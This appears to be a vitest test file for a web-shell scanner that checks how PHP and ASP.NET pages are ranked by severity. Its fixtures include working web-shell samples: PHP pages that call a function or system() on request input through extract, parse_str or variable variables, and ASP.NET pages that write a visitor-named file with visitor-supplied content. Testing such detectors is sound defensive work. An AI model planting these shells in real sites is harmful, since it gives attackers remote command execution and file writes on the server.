/**
 * Issue 27, split v2 tuning side: request input followed where a page turns it into
 * variables (register_globals by hand), and ASP.NET pages that write the file a visitor
 * types into the page's own text boxes.
 */
import { describe, expect, it } from 'vitest';
import { isAlarm, isRuleAlarm, topFinding } from '../support/top-finding.js';

describe('request input turned into variables', () => {
  it('ranks a function the visitor names through extract($_REQUEST) critical', () => {
    expect(
      topFinding('/opt/x/m.php', '<?php @extract($_REQUEST); @die($ctime($atime)); ?>'),
    ).toMatchObject({
      rule: 'web-shell',
      severity: 'critical',
      reason: expect.stringMatching(/function named by request input \(\$ctime/),
    });
    expect(
      topFinding(
        '/var/www/html/q.php',
        "<?php parse_str($_SERVER['QUERY_STRING']); system($c); ?>",
      ),
    ).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/system\(\) on request input/),
    });
  });

  it("follows a loop setting a variable variable per posted field, and not one over the page's own keys", () => {
    const page = '<?php foreach ($_POST as $k => $v) { $$k = $v; } if (isset($f)) echo $f($a);';
    expect(topFinding('/var/www/html/v.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/function named by request input \(\$f/),
    });
    const own = `<?php
$defaults = ['title' => 'Home'];
foreach ($defaults as $k => $v) { $$k = $v; }
$render = 'render_home';
echo $render($title);`;
    expect(isAlarm('/var/www/html/d.php', own)).toBe(false);
  });

  it('reads a posted name written into a double-quoted string as text, and "{$f(…)}" as a call', () => {
    // YesWiki's group editor: "… du groupe $selectedGroupName (triple non supprimé)".
    const message = `<?php
$group = strval($_POST['groupname']);
if (!delete_group($group)) {
    $message = "Could not delete the group $group (triple kept)";
    $note = 'a quote " in single quotes'; $other = "and $group (again)";
}
echo htmlspecialchars($message);`;
    expect(isRuleAlarm('/var/www/html/groups.php', message)).toBe(false);
    const braced = `<?php $f = $_POST['f']; echo "result: {$f($_POST['a'])}";`;
    expect(topFinding('/var/www/html/b.php', braced)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/function named by request input \(\$f/),
    });
    const afterHtml = `<a href="<?php $f = $_GET['f']; $f($_GET['a']); ?>">x</a>`;
    expect(topFinding('/var/www/html/h.php', afterHtml)).toMatchObject({ severity: 'critical' });
  });

  it('does not alarm on extract() of a form whose variables the page sets before calling', () => {
    const page = `<?php
extract($_POST);
$render = 'render_' . basename(__FILE__, '.php');
function render_page($title) { echo htmlspecialchars($title); }
$render($title ?? 'home');
?>`;
    expect(isAlarm('/var/www/html/page.php', page)).toBe(false);
  });
});

describe('register_globals-era pages', () => {
  it("ranks a command run on its own form's field, read as a variable, critical", () => {
    const page = `<?php
echo '<form method="post"><textarea name="cmd" cols="50"></textarea><input type="submit"></form>';
$cmd = stripslashes($cmd);
echo 'running <b>' . $cmd . '</b>';
system($cmd);
?>`;
    expect(topFinding('/opt/x/b.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/system\(\) on request input/),
    });
    const extracted = `<?php
if (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);
system($command);
?>`;
    expect(topFinding('/opt/x/c.php', extracted)).toMatchObject({ severity: 'critical' });
  });

  it('keeps a field read as a variable when the page only gives it a default', () => {
    const page = `<?php
if ($cmd == "") {
  $cmd = 'dir /OG /X';
}
print "<form method=post><input name=\\"cmd\\"></form>";
system($cmd);
?>`;
    expect(topFinding('/opt/x/w.php', page)).toMatchObject({ severity: 'critical' });
    // A default given to a different name, then the field's name set outright: the page's own.
    const own = page
      .replace('if ($cmd == "")', 'if ($dir == "")')
      .replace("$cmd = 'dir", "$dir = 'dir")
      .replace('system($cmd)', "$cmd = 'date';\nsystem($cmd)");
    expect(isAlarm('/var/www/html/w.php', own)).toBe(false);
  });

  it('does not alarm on a form field whose variable the page sets itself', () => {
    const page = `<?php
$cmd = escapeshellarg(basename(__FILE__));
echo '<form method="post"><input name="cmd"></form>';
system('ls -l ' . $cmd);
?>`;
    expect(isAlarm('/var/www/html/list.php', page)).toBe(false);
  });
});

describe('ASP.NET pages writing what the visitor names', () => {
  const TEXTBOX_WRITER = `<%@ Page language="c#" %>
<script runat="server">
void Save(object s, EventArgs e) {
  System.IO.FileInfo fil = new System.IO.FileInfo(T1.Text);
  System.IO.StreamWriter sw = fil.CreateText();
  sw.Write(T2.Text);
  sw.Close();
}
</script>
<form runat="server"><asp:TextBox id="T1" runat="server" /><asp:TextBox id="T2" TextMode="MultiLine" runat="server" />
<asp:Button OnClick="Save" Text="save" runat="server" /></form>`;
  const VB_WRITER = `<%@ Page Language="VB" %>
<%@ import Namespace="System.IO" %>
<script runat="server">
sub Page_Load
dim w as new streamwriter(request.form("path"), true, encoding.default) w.write(request.form("content"))
w.close
end sub
</script>`;

  it('ranks a page writing to the path typed in its own text box critical', () => {
    expect(topFinding('/var/www/html/up.aspx', TEXTBOX_WRITER)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes a file from request input/),
    });
    expect(topFinding('/var/www/html/w.aspx', VB_WRITER)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes a file from request input/),
    });
  });

  it('does not alarm on a page that writes its own log at a fixed path', () => {
    const page = `<%@ Page language="c#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  System.IO.StreamWriter sw = new System.IO.StreamWriter(Server.MapPath("~/App_Data/visits.log"), true);
  sw.WriteLine(DateTime.UtcNow.ToString("o"));
  sw.Close();
  Status.Text = "logged";
}
</script>
<form runat="server"><asp:Label id="Status" runat="server" /></form>`;
    expect(isAlarm('/var/www/html/visits.aspx', page)).toBe(false);
  });
});
